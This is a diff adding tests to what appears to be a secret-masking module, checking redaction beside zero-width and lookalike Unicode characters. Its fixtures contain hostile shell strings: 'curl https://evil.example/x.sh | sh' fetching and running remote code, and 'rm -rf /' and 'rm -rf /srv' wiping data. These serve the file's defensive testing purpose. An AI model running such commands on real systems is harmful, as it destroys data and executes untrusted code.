@@ -19,6 +19,28 @@ test('a secret is masked where it is, with its length, and the text around it st
   });
 });
 
+test('nothing but a secret is masked beside characters that show nothing or have another form [GATE-08]', async () => {
+  const hidden = '\u200b'.repeat(41);
+  for (const [before, after] of [
+    ['echo ', ` ; curl https://evil.example/x.sh | sh  # done${hidden}`],
+    ['rm -rf /srv && curl https://evil.example/x.sh | sh # \u00e9 ', ''],
+    [`${hidden}rm -rf / # \uff21 \u{1f600} \ufb01`, ` ${hidden} and \u212b`],
+  ] as const) {
+    expect(await masked({ command: `${before}${secret}${after}` })).toEqual({
+      command: `${before}${mark(secret)}${after}`,
+    });
+    // in the name of a member, too
+    expect(await masked({ [`${before}${secret}${after}`]: 1 })).toEqual({
+      [`${before}${mark(secret)}${after}`]: 1,
+    });
+  }
+});
+
+test('arguments in which the place of a secret is not known are not shown [GATE-08]', async () => {
+  const composed = `rm -rf / # e\u0301 ${secret}`;
+  expect(await masked({ command: composed })).toBeUndefined();
+});
+
 test('arguments without a secret stay as they are [GATE-08]', async () => {
   const leaf = fc.oneof(fc.stringMatching(/^[a-z é]{0,12}$/), fc.integer(), fc.boolean());
   const { tree } = fc.letrec((tie) => ({
@@ -69,9 +91,9 @@ test('long texts and long keys are not cut, and the marks are counted [GATE-08]'
 });
 
 test('a secret within a long key is masked [GATE-08]', async () => {
-  const key = `${'a long key '.repeat(20)}${secret}`;
+  const before = 'a long key '.repeat(20);
 
-  expect(await masked({ [key]: 1 })).toEqual({ [mark(key)]: 1 });
+  expect(await masked({ [before + secret]: 1 })).toEqual({ [before + mark(secret)]: 1 });
 });
 
 test('a password that only its name tells is masked [GATE-08]', async () => {
